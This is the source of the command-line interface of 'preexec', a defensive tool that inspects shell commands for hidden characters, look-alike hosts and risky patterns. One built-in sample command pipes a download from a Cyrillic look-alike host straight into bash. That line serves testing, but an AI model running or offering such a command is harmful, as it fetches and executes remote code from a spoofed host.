"""preexec command line.

Usage:
    preexec check [--format text|json|kv] [--clipboard] -- <command>
    preexec scan [--extract] <path>...
    preexec history [--shell zsh|bash] [--last N] [--file PATH]
    preexec show --codepoints|--urls [string...]
    preexec hook zsh|bash|fish|powershell
    preexec rules list | preexec rules test <rule> [command...]
    preexec explain [rule...]
    preexec diff <cmd1> <cmd2>
    preexec rewrite [--normalize] [command...]
    preexec pre-commit [path...]
    preexec config init [--force] | path | show

Exit codes: 0=PASS, 10=WARN, 20=BLOCK, 2=ERROR
"""

import argparse
import logging
import shutil
import sys
import time
from pathlib import Path
from typing import Optional

import yaml

from preexec import __version__
from preexec.core.engine import Result, run, run_rule
from preexec.core.rewrite import safe_rewrite
from preexec.core.rules import ALL_RULES, Severity, describe, get_rule
from preexec.core.urls import extract_urls, has_idn, host_for_display, punycode_host
from preexec.exceptions import ConfigurationError, UnsupportedShellError
from preexec.integrations.audit import get_audit_logger
from preexec.integrations.shell_hook import SUPPORTED_SHELLS, hook_script
from preexec.integrations.sources import (
    DEFAULT_HISTORY_LINES,
    extract_code_blocks,
    iter_command_lines,
    iter_files,
    read_clipboard,
    read_history,
    read_text,
    staged_files,
)
from preexec.setup.config_writer import PreexecConfig, default_config_path, load_config, write_config

logger = logging.getLogger(__name__)

EXIT_PASS = Severity.PASS.exit_code
EXIT_ERROR = 2

# Default input for "rules test": Cyrillic U+0430 in the host, piped to bash
SAMPLE_COMMAND = "curl -sSL https://inst\u0430ll.example | bash"

FORMATS = ("text", "json", "kv")


def _load_config(args: argparse.Namespace) -> PreexecConfig:
    try:
        return load_config(args.config)
    except ConfigurationError as e:
        logger.warning(f"{e}; using default config")
        return PreexecConfig()


def _config_path(args: argparse.Namespace) -> Path:
    return Path(args.config).expanduser() if args.config else default_config_path()


def _read_stdin() -> str:
    return sys.stdin.read().strip()


def format_text(result: Result) -> str:
    """One block per finding: "SEVERITY rule-id" followed by indented fields."""
    blocks = []
    for f in result.findings:
        blocks.append(
            f"{f.severity.name} {f.rule_id}\n"
            f" token: {f.token}\n"
            f" issue: {f.issue}\n"
            f" position: {f.position}\n"
            f" suggestion: {f.suggestion}\n"
        )
    return "\n".join(blocks)


def _kv_value(value) -> str:
    return str(value).replace("\\", "\\\\").replace("\n", "\\n")


def format_kv(result: Result) -> str:
    """key=value lines: severity and exit_code first, then one block per finding."""
    blocks = [f"severity={result.severity.label}\nexit_code={result.exit_code}"]
    for f in result.findings:
        blocks.append("\n".join(f"{key}={_kv_value(value)}" for key, value in f.to_dict().items()))
    return "\n\n".join(blocks)


def _decision(severity: Severity, config: PreexecConfig) -> str:
    if severity is Severity.BLOCK:
        return "block"
    if severity is Severity.WARN and config.confirm_on_warn:
        return "confirm"
    return "allow"


def cmd_check(args: argparse.Namespace) -> int:
    config = _load_config(args)

    source = "argv"
    if args.clipboard:
        command = read_clipboard()
        if command is None:
            logger.error("clipboard read failed: no working clipboard tool (pbpaste, wl-paste, xclip, xsel)")
            return EXIT_ERROR
        source = "clipboard"
    else:
        command = " ".join(args.command)

    if not command:
        logger.error("no command to check")
        return EXIT_ERROR

    start = time.perf_counter()
    result = run(command, config)
    elapsed_ms = (time.perf_counter() - start) * 1000

    if config.audit:
        get_audit_logger().log_check(
            command=command,
            severity=result.severity.name,
            rule_ids=result.rule_ids,
            decision=_decision(result.severity, config),
            source=source,
            execution_time_ms=elapsed_ms,
        )

    output_format = "json" if args.json else args.format
    if output_format == "json":
        print(result.to_json())
    elif output_format == "kv":
        print(format_kv(result))
    elif result.findings:
        print(format_text(result))
    return result.exit_code


def _report_lines(heading, lines, config: PreexecConfig) -> int:
    worst = EXIT_PASS
    for lineno, line in lines:
        result = run(line, config)
        if not result.findings:
            continue
        print(heading(lineno, line))
        for f in result.findings:
            print(f"  {f.severity.name} {f.rule_id}: {f.issue}")
        worst = max(worst, result.exit_code)
    return worst


def _scan_file(path: Path, extract: bool, config: PreexecConfig) -> int:
    try:
        content = read_text(path)
    except OSError as e:
        logger.error(f"Failed to read {path}: {e}")
        return EXIT_ERROR
    if extract:
        content = extract_code_blocks(content)
    return _report_lines(lambda lineno, line: f"{path}:{lineno}: {line}", iter_command_lines(content), config)


def cmd_scan(args: argparse.Namespace) -> int:
    config = _load_config(args)
    worst = EXIT_PASS
    try:
        for path in iter_files(args.paths):
            worst = max(worst, _scan_file(path, args.extract, config))
    except FileNotFoundError as e:
        logger.error(str(e))
        return EXIT_ERROR
    return worst


def cmd_history(args: argparse.Namespace) -> int:
    config = _load_config(args)
    try:
        entries = read_history(args.shell, last=args.last, path=args.file)
    except (UnsupportedShellError, OSError) as e:
        logger.error(str(e))
        return EXIT_ERROR
    return _report_lines(lambda lineno, line: f"[{lineno}] {line}", entries, config)


def cmd_show(args: argparse.Namespace) -> int:
    text = " ".join(args.text) if args.text else _read_stdin()

    if args.urls:
        for url in extract_urls(text):
            print(url)
            if has_idn(url):
                print(f"  ^ host contains non-ASCII (IDN): {host_for_display(url)}")
                ascii_host = punycode_host(url)
                if ascii_host:
                    print(f"    punycode: {ascii_host}")
        return EXIT_PASS

    offset = 0
    for char in text:
        print(f"{offset}: U+{ord(char):04X} {char!r}")
        offset += len(char.encode("utf-8", "surrogatepass"))
    return EXIT_PASS


def cmd_hook(args: argparse.Namespace) -> int:
    preexec_path = shutil.which("preexec") or "preexec"
    try:
        script = hook_script(args.shell, preexec_path)
    except UnsupportedShellError as e:
        logger.error(str(e))
        return EXIT_ERROR
    print(script, end="")
    return EXIT_PASS


def cmd_rules_list(args: argparse.Namespace) -> int:
    for rule in ALL_RULES:
        print(rule.rule_id)
    return EXIT_PASS


def cmd_rules_test(args: argparse.Namespace) -> int:
    rule = get_rule(args.rule)
    if rule is None:
        logger.error(f"unknown rule: {args.rule}")
        return EXIT_ERROR
    command = " ".join(args.command) or SAMPLE_COMMAND
    # Config is not applied: testing a disabled rule still shows its hits
    for f in run_rule(rule, command).findings:
        print(f"{f.rule_id}: {f.issue}")
    return EXIT_PASS


def cmd_explain(args: argparse.Namespace) -> int:
    if not args.rules:
        for rule in ALL_RULES:
            print(f"{rule.rule_id}: {rule.description}")
        return EXIT_PASS

    for name in args.rules:
        rule = get_rule(name)
        if rule is None:
            logger.error(f"unknown rule: {name}")
            return EXIT_ERROR
        print(f"{rule.rule_id}: {describe(rule.rule_id)}")
    return EXIT_PASS


def _print_side(title: str, command: str, result: Result) -> None:
    print(f"--- {title}")
    print(command)
    print(f"  severity={result.severity.name} exit={result.exit_code} findings={len(result.findings)}")
    for f in result.findings:
        print(f"  - {f.rule_id}: {f.issue}")


def cmd_diff(args: argparse.Namespace) -> int:
    first, second = args.first, args.second
    if first is None or second is None:
        lines = sys.stdin.read().split("\n")
        first = lines[0] if lines else ""
        second = lines[1] if len(lines) > 1 else ""
    if not first or not second:
        logger.error("usage: preexec diff <cmd1> <cmd2>  OR  printf 'cmd1\\ncmd2' | preexec diff")
        return EXIT_ERROR

    config = _load_config(args)
    _print_side("command A", first, run(first, config))
    _print_side("command B", second, run(second, config))
    return EXIT_PASS


def cmd_rewrite(args: argparse.Namespace) -> int:
    command = " ".join(args.command) if args.command else _read_stdin()
    if not command:
        logger.error("usage: preexec rewrite [--normalize] [--] <command>")
        return EXIT_ERROR
    print(safe_rewrite(command, normalize_homoglyphs=args.normalize))
    return EXIT_PASS


def cmd_pre_commit(args: argparse.Namespace) -> int:
    if args.paths:
        paths = args.paths
    else:
        try:
            paths = staged_files()
        except RuntimeError as e:
            logger.error(str(e))
            return EXIT_ERROR

    config = _load_config(args)
    worst = EXIT_PASS
    for raw in paths:
        path = Path(raw)
        if not path.is_file():
            logger.debug(f"Skipping {path}: not a regular file")
            continue
        worst = max(worst, _scan_file(path, False, config))
    return worst


def cmd_config_init(args: argparse.Namespace) -> int:
    path = _config_path(args)
    if path.exists() and not args.force:
        logger.error(f"Config already exists: {path} (use --force to overwrite)")
        return EXIT_ERROR

    result = write_config(PreexecConfig(), path)
    if not result.success:
        for error in result.validation_errors:
            logger.error(error)
        logger.error(f"Failed to write config: {result.error}")
        return EXIT_ERROR

    print(f"Created {result.config_path}")
    if result.backup_path:
        print(f"Backup: {result.backup_path}")
    return EXIT_PASS


def cmd_config_path(args: argparse.Namespace) -> int:
    print(_config_path(args))
    return EXIT_PASS


def cmd_config_show(args: argparse.Namespace) -> int:
    config = _load_config(args)
    print(yaml.dump(config.to_dict(), default_flow_style=False, sort_keys=False, allow_unicode=True), end="")
    return EXIT_PASS


def build_parser() -> argparse.ArgumentParser:
    """Build the preexec argument parser."""
    parser = argparse.ArgumentParser(
        prog="preexec",
        description="Inspect shell commands before they run",
        epilog="Exit codes: 0=PASS, 10=WARN, 20=BLOCK, 2=ERROR",
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )
    parser.add_argument("--version", action="version", version=f"%(prog)s {__version__}")
    parser.add_argument("--config", help="Config file (default: $PREEXEC_CONFIG or the user config dir)")
    parser.add_argument("-v", "--verbose", action="count", default=0, help="-v for info, -vv for debug logging")
    subparsers = parser.add_subparsers(dest="command_name", required=True)

    # check
    p_check = subparsers.add_parser("check", help="Inspect a single command")
    p_check.add_argument("--format", choices=FORMATS, default="text", help="Output format (default: text)")
    p_check.add_argument("--json", action="store_true", help="Shorthand for --format json")
    p_check.add_argument("--clipboard", action="store_true", help="Read the command from the clipboard")
    p_check.add_argument("command", nargs="*", help="Command to inspect (put it after --)")
    p_check.set_defaults(func=cmd_check)

    # scan
    p_scan = subparsers.add_parser("scan", help="Scan files or directories line by line")
    p_scan.add_argument("--extract", action="store_true", help="Only scan fenced markdown code blocks")
    p_scan.add_argument("paths", nargs="+", help="Files or directories")
    p_scan.set_defaults(func=cmd_scan)

    # history
    p_history = subparsers.add_parser("history", help="Scan shell history")
    p_history.add_argument("--shell", default="zsh", help="zsh or bash (default: zsh)")
    p_history.add_argument(
        "--last", type=int, default=DEFAULT_HISTORY_LINES, help=f"Last N lines (default: {DEFAULT_HISTORY_LINES})"
    )
    p_history.add_argument("--file", help="History file (default: the shell's history in $HOME)")
    p_history.set_defaults(func=cmd_history)

    # show
    p_show = subparsers.add_parser("show", help="Reveal hidden code points or URLs")
    show_mode = p_show.add_mutually_exclusive_group(required=True)
    show_mode.add_argument("--codepoints", action="store_true", help="Print every code point with its byte offset")
    show_mode.add_argument("--urls", action="store_true", help="List URLs with IDN hints")
    p_show.add_argument("text", nargs="*", help="Text to inspect (default: stdin)")
    p_show.set_defaults(func=cmd_show)

    # hook
    p_hook = subparsers.add_parser("hook", help="Print a shell hook script")
    p_hook.add_argument("shell", help=f"One of: {', '.join(SUPPORTED_SHELLS)}")
    p_hook.set_defaults(func=cmd_hook)

    # rules
    p_rules = subparsers.add_parser("rules", help="List or test rules")
    rules_sub = p_rules.add_subparsers(dest="rules_command", required=True)
    p_rules_list = rules_sub.add_parser("list", help="List rule IDs")
    p_rules_list.set_defaults(func=cmd_rules_list)
    p_rules_test = rules_sub.add_parser("test", help="Run one rule on a command")
    p_rules_test.add_argument("rule", help="Rule ID or config key")
    p_rules_test.add_argument("command", nargs="*", help="Command (default: a built-in sample)")
    p_rules_test.set_defaults(func=cmd_rules_test)

    # explain
    p_explain = subparsers.add_parser("explain", help="Describe rules")
    p_explain.add_argument("rules", nargs="*", help="Rule IDs (default: all)")
    p_explain.set_defaults(func=cmd_explain)

    # diff
    p_diff = subparsers.add_parser("diff", help="Compare findings for two commands")
    p_diff.add_argument("first", nargs="?", help="Command A (default: first stdin line)")
    p_diff.add_argument("second", nargs="?", help="Command B (default: second stdin line)")
    p_diff.set_defaults(func=cmd_diff)

    # rewrite
    p_rewrite = subparsers.add_parser("rewrite", help="Print a sanitized command")
    p_rewrite.add_argument("--normalize", action="store_true", help="Fold Cyrillic look-alikes to Latin")
    p_rewrite.add_argument("command", nargs="*", help="Command (default: stdin)")
    p_rewrite.set_defaults(func=cmd_rewrite)

    # pre-commit
    p_pre_commit = subparsers.add_parser("pre-commit", help="Scan staged files (git hook)")
    p_pre_commit.add_argument("paths", nargs="*", help="Paths (default: git staged files)")
    p_pre_commit.set_defaults(func=cmd_pre_commit)

    # config
    p_config = subparsers.add_parser("config", help="Manage the config file")
    config_sub = p_config.add_subparsers(dest="config_command", required=True)
    p_config_init = config_sub.add_parser("init", help="Write the default config")
    p_config_init.add_argument("--force", action="store_true", help="Overwrite an existing config (a backup is kept)")
    p_config_init.set_defaults(func=cmd_config_init)
    p_config_path = config_sub.add_parser("path", help="Print the config path")
    p_config_path.set_defaults(func=cmd_config_path)
    p_config_show = config_sub.add_parser("show", help="Print the effective config")
    p_config_show.set_defaults(func=cmd_config_show)

    return parser


def _log_level(verbosity: int) -> int:
    if verbosity >= 2:
        return logging.DEBUG
    if verbosity == 1:
        return logging.INFO
    return logging.WARNING


def main(argv: Optional[list[str]] = None) -> int:
    """Main entry point."""
    parser = build_parser()
    args = parser.parse_args(argv)

    logging.basicConfig(
        level=_log_level(args.verbose),
        format="[preexec] %(levelname)s: %(message)s",
        stream=sys.stderr,
    )

    return args.func(args)


if __name__ == "__main__":
    sys.exit(main())
